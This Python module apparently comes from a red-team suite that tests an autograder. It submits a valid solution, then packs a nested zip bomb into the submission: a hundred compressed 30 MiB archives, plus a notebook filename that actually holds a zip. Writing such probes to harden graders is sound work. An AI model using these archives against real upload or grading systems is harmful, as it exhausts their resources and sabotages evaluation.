"""Brings archives that unpack to a thousand times their size, a hundred of them within another one."""

import io
import zipfile

from attacks import fill, write

EARNS = {"double"}


def submit(folder, released, solved):
    write(folder, fill(released, {"double": solved["double"]}))
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("zeros", bytes(30 * 2**20))
    with zipfile.ZipFile(folder / "submission.zip", "w", zipfile.ZIP_DEFLATED) as archive:
        for number in range(100):
            archive.writestr(f"{number}.zip", inner.getvalue())
        archive.writestr("1_toy.ipynb", inner.getvalue())
    (folder / "1_toy.zip").write_bytes(inner.getvalue())
